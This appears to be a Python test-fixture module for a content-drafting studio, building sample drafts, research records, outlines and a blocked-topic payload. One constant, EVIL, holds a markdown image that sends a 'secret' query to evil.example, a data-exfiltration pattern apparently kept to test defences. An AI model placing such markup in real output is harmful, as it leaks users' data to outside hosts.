"""Literal data as Studio's nodes leave it, and conversations that hold it."""

from typing import Any

from agent.checks.content import Draft, Measure, check_draft
from agent.ports import Version
from ui import session

Plain = dict[str, Any]
Entries = list[tuple[str, Plain]]

EVIL = "![x](http://evil.example/?q=secret)"
MOMENT = "2026-11-22T10:00:00+00:00"
BLOG = (
    "# Staging a home\n\nThis is your dream home, and staging it costs little.\n\n"
    "## Clear first\n\n- Put away photographs\n- Empty the wardrobe\n\nSales rise by 37%.\n\n"
    "Pay with 4111 1111 1111 1111.\n"
)
POST = (
    "Most sellers start with paint.\nStart with the wardrobe.\n\nBuyers pay for space."
    "\n\n1. Clear\n2. Light\n\n#HomeStaging #Selling #Homes"
)


def piece(kind: str = "blog", **more: Any) -> Plain:
    given: Plain = {
        "kind": kind,
        "title": "Staging a home",
        "text": POST if kind == "linkedin" else BLOG,
        "meta_description": "",
        "alt": "",
        "ratio": "",
        "style": "",
        "language": "en",
        "claims": [],
        "slots": [],
        "wish": None,
        "picture": "",
        "origin": "rules",
        "notes": [],
    }
    return {**given, **more}


def report(of: Plain) -> Plain:
    """The rules' own."""
    names = ("kind", "text", "meta_description", "alt", "ratio", "language")
    measure = Measure(words=30, voice={"banned": ["dream home"]})
    return check_draft(Draft(**{name: of[name] for name in names}), measure).model_dump(mode="json")


def draft(of: Plain, number: int = 1, piece_id: str = "p1", **more: Any) -> Plain:
    found = report(of)
    blocking = [each["sentence"] for each in found["findings"] if each["level"] == "blocks"]
    return {
        "piece_id": piece_id,
        "number": number,
        "why": "drafted" if number == 1 else "rewritten",
        "comment": "",
        "piece": of,
        "report": found,
        "before": "",
        "blocking": list(dict.fromkeys(blocking)),
        "is_partial": False,
        **more,
    }


def research(**more: Any) -> Plain:
    sources = [
        {
            "id": "S1",
            "title": "Staging guide",
            "where": "document",
            "url": "",
            "document": "d#1",
            "heading": "Before the photographs",
            "published": "2025-03-01",
            "fetched": "",
            "language": "en",
            "notices": [],
        },
        {
            "id": "S2",
            "title": "A *profile*",
            "where": "web",
            "url": "https://www.example.org/profile",
            "document": "",
            "heading": "",
            "published": "in spring",
            "fetched": MOMENT,
            "language": "en",
            "notices": ["A hidden passage was left out."],
        },
    ]
    claims = [
        _claim("C1", "S2", "Four in five agents agree.", "supported"),
        _claim("C2", "S1", "Homes sell for 20% more.", "unsupported"),
    ]
    given: Plain = {
        "topic": "home staging",
        "language": "en",
        "queries": ["home staging figures"],
        "summary": "Staging helps. [C1]",
        "key_findings": ["Four in five agents agree. [C1]"],
        "sources": sources,
        "claims": claims,
        "related": ["Curb appeal"],
        "notices": ["One search was not answered."],
        "origin": "model",
        "at": MOMENT,
    }
    return {**given, **more}


def _claim(id_: str, source: str, text: str, verdict: str) -> Plain:
    reason = "" if verdict == "supported" else "20 does not stand in the quote."
    return {
        "id": id_,
        "text": text,
        "source": source,
        "quote": f"The words of {source}",
        "verdict": verdict,
        "reason": reason,
    }


OUTLINE: Plain = {
    "title": "Staging a home",
    "sections": [{"heading": "Clear *first*", "gist": "Space is paid for.", "claims": ["C1"]}],
    "origin": "rules",
    "changes": [],
}


def blocked(**more: Any) -> Plain:
    return {
        "passed": False,
        "message": "This is not a topic of Harbour. Try something like: “Write about staging”",
        "blocked_by": "off_topic",
        "details": {"rule": "another field", "quote": "cake, recipe"},
        "text": "Bake a cake",
        **more,
    }


def keep(
    entries: Entries, *, text: str = "Write a post", thread: str = "", inputs: Plain | None = None
) -> str:
    """A finished turn, with the versions of its drafts where they are kept."""
    agent = session.graph_agent()
    thread = thread or agent.ledger.threads.create("local", "studio", title=text)
    turn = agent.ledger.turns.append(thread, text, inputs=inputs or {}, model="embedded")
    for n, (kind, data) in enumerate(entries):
        agent.ledger.turns.put_entry(turn, f"{kind} {n}", kind=kind, data=data)
        if kind == "studio_draft" and not data["is_partial"]:
            agent.ports.pieces.add_version("local", _version(data, thread))
    agent.ledger.turns.set_status(turn, "done")
    agent.ledger.turns.keep(turn, messages=[], carry={})
    agent.ledger.threads.set_status(thread, "done")
    return thread


def _version(data: Plain, thread: str) -> Version:
    return Version(
        id=f"{data['piece_id']} {data['number']}",
        piece=data["piece_id"],
        thread=thread,
        number=0,
        at=MOMENT,
        why=data["why"],
        content=data["piece"],
    )
